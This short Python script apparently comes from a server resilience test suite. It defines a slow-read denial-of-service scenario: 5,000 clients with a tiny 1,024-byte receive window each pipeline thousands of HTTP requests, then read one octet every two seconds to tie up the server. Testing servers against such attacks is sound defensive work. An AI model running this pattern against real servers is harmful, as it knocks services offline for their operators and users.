"""5,000 clients with a tiny window that ask for a lot and take an octet of it now and then."""

import asyncio

from wire import receive, send, swarm

CLIENTS = 5_000
WINDOW = 1_024
REQUESTS = b"GET /json HTTP/1.1\r\nHost: x\r\n\r\n" * 2_000


async def client(target, connection):
    sending = asyncio.create_task(send(connection, REQUESTS))
    try:
        while await receive(connection, 1):
            target.count("octets taken")
            await asyncio.sleep(2)
    finally:
        sending.cancel()
        await asyncio.gather(sending, return_exceptions=True)


async def attack(target):
    await swarm(target, CLIENTS, lambda connection: client(target, connection), window=WINDOW)
